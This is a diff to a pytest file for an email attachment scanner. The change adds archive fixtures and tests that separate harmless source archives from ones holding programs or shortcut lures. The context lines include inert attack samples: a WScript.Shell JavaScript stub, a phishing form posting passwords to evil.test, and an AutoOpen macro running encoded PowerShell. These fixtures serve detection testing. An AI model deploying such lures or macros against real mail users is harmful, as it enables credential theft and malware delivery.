@@ -4,7 +4,7 @@ import pytest
 
 from lazaretto.scan.checks.attachments import check
 from tests.helpers.letters import File, judged, letter, rules_of, seen
-from tests.unit.mail.files import CONTENT_TYPES, ole_of, zip_of
+from tests.unit.mail.files import CONTENT_TYPES, ole_of, tar_of, zip_of
 from tests.unit.mail.packed import PASSWORD, archive
 from tests.unit.mail.test_cms import INNER, encrypted, signed
 from tests.unit.mail.test_embedded import note_of, package_of, rtf_of
@@ -14,6 +14,11 @@ from tests.unit.mail.test_vba import packed
 
 EXE = b"MZ" + bytes(200)
 JS = b"var s = new ActiveXObject('WScript.Shell'); function go() { s.Run('calc'); } eval(go());\n"
+MENU = {
+    "data/app.desktop": b"[Desktop Entry]\nExec=app\n",
+    "doc/home.url": b"[InternetShortcut]\nURL=https://app.example/\n",
+    "win/app.reg": b"Windows Registry Editor Version 5.00\n",
+}
 LOGIN = b"<html><body><form action='http://evil.test/'><input type=password name=p></form></body></html>"
 MACRO = zip_of(
     CONTENT_TYPES | {"word/vbaProject.bin": packed(b'Sub AutoOpen()\r\n Shell "powershell -enc x"')}
@@ -53,9 +58,11 @@ def test_dangerous_inner_files(name, data, rule, path):
         ("src.zip", zip_of({f"s{i}.js": JS for i in range(30)})),
         ("src.zip", zip_of({"main.c": JS, "readme.txt": b"hello"})),
         ("page.zip", zip_of({"p.html": LOGIN, "a.css": b"a", "b.css": b"b", "c.css": b"c"})),
+        ("src.tgz", tar_of({f"s{i}.c": b"int x;" for i in range(30)} | MENU, "w:gz")),
+        ("src.zip", zip_of({f"s{i}.c": b"int x;" for i in range(30)} | MENU)),
         ("photos.zip", zip_of({f"{i}.jpg": b"\xff\xd8\xff\xe0" + bytes(90) for i in range(9)})),
     ],
-    ids=["scripts", "source", "saved page", "photos"],
+    ids=["scripts", "source", "saved page", "sources", "packed sources", "photos"],
 )
 def test_harmless_inner_files(name, data):
     """Source code, saved pages and photographs come in archives every day."""
@@ -114,6 +121,15 @@ def test_honest_files(name, data):
     found = {f.rule for f in check(letter(attachments=[File(name, data)]), None, None)}
 
     assert not found
+
+
+def test_menu_entries_alone_and_programs_among_sources():
+    """The same texts among few files are lures, and a program is one among many."""
+    few = zip_of(MENU)
+    many = zip_of({f"s{i}.c": b"int x;" for i in range(30)} | {"run.exe": EXE})
+
+    assert "archive_holds_program" in found("a.zip", few)
+    assert "archive_holds_program" in found("a.zip", many)
 
 
 def test_locked_archive_whose_password_is_given():
